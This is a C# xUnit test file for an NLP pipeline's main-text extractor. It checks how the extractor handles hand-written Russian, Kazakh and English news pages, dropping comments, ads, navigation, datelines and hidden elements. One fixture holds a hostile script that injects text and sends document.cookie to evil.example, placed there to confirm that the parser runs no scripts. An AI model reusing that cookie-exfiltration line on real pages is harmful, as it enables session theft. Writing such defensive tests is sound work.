using NlpPipeline.Ingestion.Dates;
using NlpPipeline.Ingestion.Pages;
using Xunit;

namespace NlpPipeline.Tests.Ingestion.Pages;

/// <summary>One general rule of the extractor per test, each on a small hand-written page.</summary>
public sealed class MainTextExtractorRuleTests
{
    private readonly MainTextExtractor _extractor = new(new PublishedDateParser(UnitFixture.Almaty));

    private IReadOnlyList<string> Paragraphs(string body) =>
        _extractor.Extract($"<!DOCTYPE html><html><head><title>t</title></head><body>{body}</body></html>", new Uri("https://example.kz/news/1")).Paragraphs;

    private const string Ru1 = "В Караганде с понедельника закрывают на ремонт путепровод на улице Ермекова, объезд организуют через Бухар-Жырау.";
    private const string Ru2 = "Ремонт продлится до конца сентября, подрядчик обещает работать круглосуточно, чтобы не затягивать сроки.";
    private const string Ru3 = "Водителей автобусов предупредили заранее, маршруты номер 1, 12 и 43 временно изменят схему движения.";
    private const string Kk1 = "Шымкентте жаңа балабақша ашылды, ол үш жүз баланы қабылдай алады, деп хабарлады қалалық білім басқармасы.";
    private const string Kk2 = "Ғимарат екі жыл бойы салынды, құрылысқа жергілікті бюджеттен бір жарым миллиард теңге бөлінген.";
    private const string Kk3 = "Ата-аналар кезекке электронды үкімет порталы арқылы тұра алады, құжаттарды қабылдау қыркүйекте басталады.";
    private const string En1 = "Almaty's metro will open two new stations next spring, the city's transport department said on Tuesday.";
    private const string En2 = "The extension, delayed for three years by funding disputes, will add four kilometres to the line.";
    private const string En3 = "Officials expect the stations to carry about 30,000 passengers a day once the buses are rerouted to them.";

    [Fact]
    public void Extract_PageWithScripts_RunsNoneAndKeepsNoScriptText()
    {
        // A script that would add a paragraph, rewrite the story and leak a cookie: nothing of it may reach the
        // text (the parser has no script engine), nor may the script's own source.
        var page = Paragraphs($"""
            <article>
              <p>{Kk1}</p>
              <script>document.write('<p>INJECTED BY DOCUMENT.WRITE</p>');</script>
              <p id="second">{Kk2}</p>
              <script>document.getElementById('second').textContent = 'REWRITTEN BY SCRIPT'; fetch('https://evil.example/?c=' + document.cookie);</script>
              <p>{Kk3}</p>
              <noscript><p>Сайттың барлық мүмкіндіктерін пайдалану үшін браузерде JavaScript қосыңыз.</p></noscript>
            </article>
            """);

        Assert.Equal([Kk1, Kk2, Kk3], page);
    }

    [Fact]
    public void Extract_DatelineBlocks_AreLeftOut_ButATimeInsideASentenceStays()
    {
        // A bare <time> under the headline, and a short labelled one, are page metadata (they would become passages
        // of their own); a <time> inside a sentence is part of the story.
        const string withTime = "Жөндеу жұмыстары <time datetime=\"2024-09-30\">30 қыркүйекке</time> дейін созылады, деп хабарлады әкімдік.";
        var page = Paragraphs($"""
            <article>
              <h1>Шымкентте жаңа балабақша ашылды</h1>
              <time datetime="2024-05-14T10:15:00+05:00">14.05.2024 10:15</time>
              <p>{Kk1}</p>
              <p class="updated">Жаңартылды: <time datetime="2024-05-14T12:40:00+05:00">14 мамыр 2024, 12:40</time></p>
              <p>{Kk2}</p>
              <p>{withTime}</p>
              <div><time>Tuesday, 14 May 2024</time></div>
              <p>{Kk3}</p>
            </article>
            """);

        Assert.Equal([Kk1, Kk2, "Жөндеу жұмыстары 30 қыркүйекке дейін созылады, деп хабарлады әкімдік.", Kk3], page);
    }

    [Fact]
    public void Extract_FurnitureNamedWrapperHoldingMostOfTheText_IsKept()
    {
        // "sidebar" and "meta" are furniture words, but these wrappers hold the whole story.
        var page = Paragraphs($"""
            <div class="l-sidebar-fixed"><div class="meta-field-wrapper">
              <p>{En1}</p><p>{En2}</p><p>{En3}</p>
            </div></div>
            <div class="sidebar"><p>Weather in Almaty: sunny, plus twenty-two degrees, light wind from the mountains.</p></div>
            """);

        Assert.Equal([En1, En2, En3], page);
    }

    [Fact]
    public void Extract_TaxonomyClassesOnTheArticle_DoNotMakeItFurniture()
    {
        // WordPress writes the post's categories and tags as classes; "advertising" and "comments" here are topics.
        var page = Paragraphs($"""
            <article class="post type-post category-advertising-market tag-comments">
              <h1>Заголовок</h1><p>{Ru1}</p><p>{Ru2}</p><p>{Ru3}</p>
            </article>
            """);

        Assert.Equal([Ru1, Ru2, Ru3], page);
    }

    [Fact]
    public void Extract_ElementThatAlsoNamesItselfContent_IsSparedWhenItHoldsTheStory()
    {
        // "read-more" alone is furniture; "entry-content" beside it says this is the story, cut short by a button.
        var page = Paragraphs($"""
            <div class="box"><h1>Балабақша</h1>
              <div class="entry-content entry-content-read-more"><p>{Kk1}</p><p>{Kk2}</p><p>{Kk3}</p></div>
            </div>
            <div class="read-more-links"><p>Тағы оқыңыз: облыста үш жаңа мектеп салынады, құрылыс көктемде басталады.</p></div>
            """);

        Assert.Equal([Kk1, Kk2, Kk3], page);
    }

    [Fact]
    public void Extract_StrongFurnitureLongerThanTheStory_IsStillDropped()
    {
        var comment = "Полностью согласен с автором, у нас во дворе такая же ситуация уже третий год подряд, никто не чинит.";
        var page = Paragraphs($"""
            <article><h1>Путепровод</h1><p>{Ru1}</p><p>{Ru2}</p></article>
            <div class="comments-list"><p>{comment}</p><p>{comment} Да.</p><p>{comment} Нет.</p><p>{comment} Ну.</p></div>
            """);

        Assert.Equal([Ru1, Ru2], page);
    }

    [Fact]
    public void Extract_DivsHoldingOnlyInlineText_AreParagraphsOfOneStory()
    {
        // Blog editors write each paragraph as a div of spans; together they are the story, not three rivals.
        var page = Paragraphs($"""
            <div class="post-body">
              <div><span style="font-size: small">{Kk1}</span></div>
              <div><span> </span></div>
              <div><span style="font-size: small">{Kk2}</span></div>
              <div><span style="font-size: small">{Kk3}</span></div>
            </div>
            """);

        Assert.Equal([Kk1, Kk2, Kk3], page);
    }

    [Fact]
    public void Extract_StoryCutIntoColumns_ReturnsEveryColumn()
    {
        // A story body split into several column divs, with an ad slot between them.
        var page = Paragraphs($"""
            <section itemprop="articleBody">
              <div class="column"><div><p>{Ru1}</p></div></div>
              <div class="ad-slot"><p>Реклама</p></div>
              <div class="column"><div><p>{Ru2}</p><p>{Ru3}</p></div></div>
            </section>
            """);

        Assert.Equal([Ru1, Ru2, Ru3], page);
    }

    [Fact]
    public void Extract_TeaserArticlesBesideTheStory_AreLeftOut()
    {
        // The story grows into its parent only while the parent adds paragraphs of the same story, not other articles.
        var page = Paragraphs($"""
            <main>
              <section><div class="body"><p>{En1}</p><p>{En2}</p><p>{En3}</p></div></section>
              <section class="list">
                <article><h3>Bus fares</h3><p>Bus fares in Astana will rise by ten tenge from January, the akimat said today.</p></article>
                <article><h3>Snow</h3><p>Heavy snow is expected in the north of the country this weekend, forecasters warn.</p></article>
              </section>
            </main>
            """);

        Assert.Equal([En1, En2, En3], page);
    }

    [Fact]
    public void Extract_CamelCaseClassNames_AreSplitIntoFurnitureWords()
    {
        var page = Paragraphs($"""
            <div class="article-body">
              <p>{En1}</p>
              <div class="GoogleDfpAd-adCaption">Advertisement</div>
              <p>{En2}</p>
              <div class="photo"><span class="newsCaption">The new station under construction in the Bostandyk district.</span></div>
              <p>{En3}</p>
            </div>
            """);

        Assert.Equal([En1, En2, En3], page);
    }

    [Fact]
    public void Extract_PreviousAndNextPostLinks_AreDropped()
    {
        var page = Paragraphs($"""
            <div class="article">
              <p>{Kk1}</p><p>{Kk2}</p><p>{Kk3}</p>
              <div class="next-prev">
                <div class="prev"><p>Алматыда жаңа саябақ ашылды, онда екі мың ағаш отырғызылды деп хабарлады әкімдік.</p></div>
                <div class="next"><p>Астанада көктемгі су тасқынына дайындық басталды, құтқарушылар жаттығу өткізді.</p></div>
              </div>
            </div>
            """);

        Assert.Equal([Kk1, Kk2, Kk3], page);
    }

    [Fact]
    public void Extract_PageWrappedInOneForm_KeepsTheStory()
    {
        // ASP.NET WebForms pages wrap the whole body in a form; a form is furniture only when it is not the page.
        var page = Paragraphs($"""
            <form id="aspnetForm" method="post"><div class="news"><h1>Путепровод</h1><p>{Ru1}</p><p>{Ru2}</p><p>{Ru3}</p></div>
            <div class="search"><input type="text"><button>Найти</button></div></form>
            """);

        Assert.Equal([Ru1, Ru2, Ru3], page);
    }

    [Fact]
    public void Extract_HeaderElementWithHeadlineAndByline_IsLeftOut()
    {
        var page = Paragraphs($"""
            <article>
              <header><h1>Metro extension</h1><p class="lede-meta">By Aigerim Sadykova, staff correspondent in Almaty, 12 March</p></header>
              <p>{En1}</p><p>{En2}</p><p>{En3}</p>
            </article>
            """);

        Assert.Equal([En1, En2, En3], page);
    }

    [Fact]
    public void Extract_ElementsHiddenByRoleAriaOrStyle_AreDropped()
    {
        var page = Paragraphs($"""
            <div class="text">
              <p>{Ru1}</p>
              <div role="navigation"><p>Главная, Новости, Общество, Экономика, Происшествия, Спорт и Культура</p></div>
              <p aria-hidden="true">Этот абзац для экранных читалок скрыт и не относится к тексту статьи.</p>
              <p style="DISPLAY: None">Этот абзац скрыт стилем в верхнем регистре и не должен попасть в текст.</p>
              <p>{Ru2}</p><p>{Ru3}</p>
            </div>
            """);

        Assert.Equal([Ru1, Ru2, Ru3], page);
    }

    [Fact]
    public void Extract_ParagraphMostlyOneLinkInsideTheStory_IsKeptButARowOfLinksIsNot()
    {
        const string linked = "Полный текст постановления акимата о ремонте путепровода опубликован на сайте города.";
        var page = Paragraphs($"""
            <div class="article-text">
              <p>{Ru1}</p><p>{Ru2}</p>
              <p>См.: <a href="/doc/1">Полный текст постановления акимата о ремонте путепровода</a> опубликован на сайте города.</p>
              <p><a href="/t/1">Караганда</a> <a href="/t/2">Дороги</a> <a href="/t/3">Ремонт</a></p>
              <p>{Ru3}</p>
            </div>
            """);

        Assert.Equal([Ru1, Ru2, "См.: " + linked, Ru3], page);
    }
}
